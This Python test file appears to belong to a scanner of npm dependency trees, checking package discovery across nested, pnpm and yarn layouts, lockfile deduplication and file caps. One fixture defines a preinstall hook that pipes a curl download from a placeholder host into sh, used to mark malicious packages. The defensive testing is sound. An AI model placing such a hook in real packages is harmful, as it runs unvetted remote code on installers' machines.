"""Package discovery: one walk, one read of each package.json, the same folders and files as a
walk of each package on its own."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from gouvernante.heuristic import discover as discover_mod
from gouvernante.heuristic import engine
from gouvernante.heuristic import files as files_mod
from gouvernante.heuristic.discover import discover, job_for
from gouvernante.heuristic.files import Stats

EVIL = {"preinstall": "curl -fsSL https://example.invalid/x | sh"}


def _pkg(folder: Path, name: str, version: str = "1.0.0", scripts: dict[str, str] | None = None,
         files: dict[str, str] | None = None) -> Path:  # fmt: skip
    folder.mkdir(parents=True, exist_ok=True)
    manifest: dict[str, object] = {"name": name, "version": version}
    if scripts:
        manifest["scripts"] = scripts
    (folder / "package.json").write_text(json.dumps(manifest))
    for rel, text in (files or {}).items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_text(text)
    return folder


def _tree(root: Path) -> Path:
    """A project with most layouts: nested, scoped, pnpm store, bun cache entry, a package
    folder inside a package's own folders, odd files."""
    _pkg(root, "proj", files={"index.js": "1;\n", "packages/a/src/a.ts": "2;\n"})
    _pkg(root / "packages" / "a", "a")  # a workspace: not under node_modules, not a package
    _pkg(root / "packages" / "a" / "node_modules" / "wdep", "wdep", files={"i.js": "3;\n"})
    nm = root / "node_modules"
    _pkg(nm / "plain", "plain", scripts={"postinstall": "node setup.js"},
         files={"setup.js": "4;\n", "lib/x.cjs": "5;\n", "types.d.ts": "", "x.map": "",
                "bin/cli": "#!/usr/bin/env node\n", "README.md": "# r\n", ".git/hook.js": "6;\n",
                "lib/vendor/node_modules/deep/package.json": '{"name":"deep","version":"1"}',
                "lib/vendor/node_modules/deep/d.js": "7;\n"})  # fmt: skip
    _pkg(nm / "@scope" / "s", "@scope/s", files={"s.mjs": "8;\n"})
    _pkg(nm / "plain" / "node_modules" / "nested", "nested", files={"n.js": "9;\n"})
    _pkg(nm / ".pnpm" / "p@2.0.0" / "node_modules" / "p", "p", "2.0.0", files={"p.js": "0;\n"})
    _pkg(nm / "cache" / "b@1.0.0@@@1", "b", files={"b.js": "1;\n"})
    os.symlink(nm / "plain" / "setup.js", nm / "plain" / "linked.js")
    return root


def _own_files(pkg: str) -> set[tuple[str, bool]]:
    return set(files_mod.package_files(pkg, Stats()))


def test_discovery_lists_what_each_package_walked_alone_lists(tmp_path: Path) -> None:
    root = str(_tree(tmp_path / "proj"))
    jobs = discover(root)
    found = [j.path[len(root) :] for j in jobs]
    assert found == [
        "",
        "/node_modules/.pnpm/p@2.0.0/node_modules/p",
        "/node_modules/@scope/s",
        "/node_modules/cache/b@1.0.0@@@1",
        "/node_modules/plain",
        "/node_modules/plain/lib/vendor/node_modules/deep",
        "/node_modules/plain/node_modules/nested",
        "/packages/a/node_modules/wdep",
    ]
    for job in jobs:
        listed = {(os.path.join(job.path, r), False) for r in job.files}
        listed |= {(os.path.join(job.path, r), True) for r in job.shebang}
        assert listed == _own_files(job.path), job.path
        assert job.real == os.path.realpath(job.path)
        assert job == job_for(job.path, Stats())
    plain = jobs[4]
    assert (plain.manifest.name, plain.manifest.version) == ("plain", "1.0.0")
    assert plain.manifest.commands == (("postinstall", "node setup.js"),)
    assert '"postinstall"' in plain.manifest.raw
    assert jobs[2].manifest.raw == ""  # no install commands: the text is not carried


def test_a_modules_folder_of_the_project_holds_installed_packages(tmp_path: Path) -> None:
    """yarn 1's ``--modules-folder`` (a folder holding ``.yarn-integrity`` and no package.json,
    ``fs.walk.modules_folder``; decision 0074): its packages are scanned as installed ones, each
    with its own files, whether the scanned root is the project or the folder itself."""
    root = _pkg(tmp_path / "proj", "proj", files={"index.js": "1;\n"})
    vendor = root / "deps" / "vendor_modules"
    vendor.mkdir(parents=True)
    (vendor / ".yarn-integrity").write_text("{}")
    _pkg(vendor / "a", "a", scripts=EVIL, files={"a.js": "2;\n"})
    _pkg(vendor / "@s" / "b", "@s/b", files={"b.js": "3;\n"})
    _pkg(vendor / "a" / "node_modules" / "c", "c", files={"c.js": "4;\n"})
    jobs = {j.path[len(str(root)) :]: j.files for j in discover(str(root))}
    assert jobs == {
        "": ("index.js",),
        "/deps/vendor_modules/@s/b": ("b.js",),
        "/deps/vendor_modules/a": ("a.js",),
        "/deps/vendor_modules/a/node_modules/c": ("c.js",),
    }
    alone = {j.path[len(str(vendor)) :] for j in discover(str(vendor))}
    assert alone == {"/@s/b", "/a", "/a/node_modules/c"}


def test_a_package_cannot_hide_its_files_behind_yarn_s_record(tmp_path: Path) -> None:
    """Inside an installed package a folder holding ``.yarn-integrity`` stays the package's own:
    its code is scanned as the package's, never left unowned."""
    evil = _pkg(tmp_path / "proj" / "node_modules" / "evil", "evil", files={"i.js": "1;\n"})
    (evil / "lib").mkdir()
    (evil / "lib" / ".yarn-integrity").write_text("{}")
    (evil / "lib" / "x").mkdir()
    (evil / "lib" / "x" / "payload.js").write_text("2;\n")
    for root in (tmp_path / "proj", evil):
        jobs = {j.manifest.name: j.files for j in discover(str(root))}
        assert jobs["evil"] == ("i.js", "lib/x/payload.js")


@pytest.mark.parametrize("suffix", ["/", ""])
def test_a_root_given_with_a_trailing_separator(tmp_path: Path, suffix: str) -> None:
    root = str(_tree(tmp_path / "proj")) + suffix
    jobs = discover(root)
    assert jobs[0].path == root and jobs[0].real == os.path.realpath(root)
    assert jobs[0].files == ("index.js", "packages/a/src/a.ts")
    assert len(jobs) == 8


def test_each_package_json_is_read_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = _tree(tmp_path / "proj")
    reads: list[str] = []
    real_read = files_mod.read_sampled

    def counting(path: str, *args: object, **kwargs: object) -> object:
        if os.path.basename(path) == "package.json":
            reads.append(path)
        return real_read(path, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(files_mod, "read_sampled", counting)
    hits, notes = engine.scan_trees([str(root)], workers=1)
    assert sorted(reads) == sorted(set(reads)) and len(reads) == 8  # not packages/a's
    assert any("scanned 8 package folders" in n for n in notes)
    assert hits == []  # `node setup.js` of a harmless file


def _locked_copies(root: Path) -> Path:
    """Two copies of one release (same integrity); the second holds a nested install, and a
    folder of its own that holds a node_modules (content of the release, by its integrity)."""
    nm = root / "node_modules"
    _pkg(nm / "a", "dup", files={"a.js": "1;\n"})
    copy = _pkg(nm / "b" / "node_modules" / "dup", "dup", files={"a.js": "1;\n"})
    _pkg(nm / "b", "b")
    _pkg(copy / "node_modules" / "inner", "inner", scripts=EVIL)
    _pkg(copy / "lib" / "node_modules" / "hidden", "hidden")
    lock = {
        "packages": {
            "node_modules/a": {"integrity": "sha512-SAME"},
            "node_modules/b/node_modules/dup": {"integrity": "sha512-SAME"},
        }
    }
    (nm / ".package-lock.json").write_text(json.dumps(lock))
    return copy


def test_a_copy_known_by_integrity_is_not_walked_but_its_installs_are(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    copy = _locked_copies(tmp_path)
    listed: list[str] = []
    real_list = discover_mod._Walk._list

    def spy(self: discover_mod._Walk, path: str, visited: set[tuple[int, int]]) -> object:
        listed.append(path)
        return real_list(self, path, visited)

    monkeypatch.setattr(discover_mod._Walk, "_list", spy)
    stats = Stats()
    jobs = discover(str(tmp_path), stats)
    names = [j.manifest.name for j in jobs]
    assert names == ["dup", "b", "inner"]
    assert stats.counts["duplicates"] == 1
    assert str(copy / "lib") not in listed  # the copy's own folders: not walked
    assert str(copy / "node_modules" / "inner") in listed
    hits, notes = engine.scan_trees([str(tmp_path)], workers=1)
    assert [h.package for h in hits] == ["inner"]
    assert any("1 copies of a release (same integrity) scanned once" in n for n in notes)


def test_the_integrity_of_an_old_npm_manifest_dedupes_across_roots(tmp_path: Path) -> None:
    for tree in ("one", "two"):
        pkg = _pkg(tmp_path / tree / "node_modules" / "x", "x", scripts=EVIL)
        data = json.loads((pkg / "package.json").read_text())
        data["_integrity"] = "sha512-OLD"
        (pkg / "package.json").write_text(json.dumps(data))
    seen: set[tuple[str, ...]] = set()
    first = discover(str(tmp_path / "one" / "node_modules"), None, seen)
    second = discover(str(tmp_path / "two" / "node_modules"), None, seen)
    assert [j.manifest.name for j in first] == ["x"] and second == []


def test_the_file_cap_is_counted_once_per_package(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(discover_mod, "MAX_FILES_PER_PACKAGE", 3)
    pkg = _pkg(tmp_path / "node_modules" / "many", "many")
    for i in range(5):
        (pkg / f"f{i}.js").write_text("1;\n")
    stats = Stats()
    [job] = discover(str(tmp_path), stats)
    assert job.files == ("f0.js", "f1.js", "f2.js")
    assert stats.counts["file_cap"] == 1


def test_unreadable_folders_are_counted_once(tmp_path: Path) -> None:
    pkg = _pkg(tmp_path / "node_modules" / "p", "p", files={"lib/x.js": "1;\n"})
    (pkg / "lib").chmod(0)
    try:
        if os.access(pkg / "lib", os.R_OK):  # root reads mode-0 folders
            pytest.skip("running as root")
        stats = Stats()
        discover(str(tmp_path), stats)
        assert stats.counts["unreadable_dirs"] == 1
    finally:
        (pkg / "lib").chmod(0o755)


def test_an_absent_hidden_lockfile_is_not_an_unreadable_entry(tmp_path: Path) -> None:
    nm = tmp_path / "node_modules"
    _pkg(nm / "x", "x")
    hits, notes = engine.scan_trees([str(nm)], workers=1)  # as the scan passes its roots
    assert hits == [] and not any("unreadable" in n for n in notes)
    (nm / ".package-lock.json").mkdir()  # there, but not a file: counted
    _hits, notes = engine.scan_trees([str(nm)], workers=1)
    assert any("skipped 1 unreadable or non-regular entries" in n for n in notes)
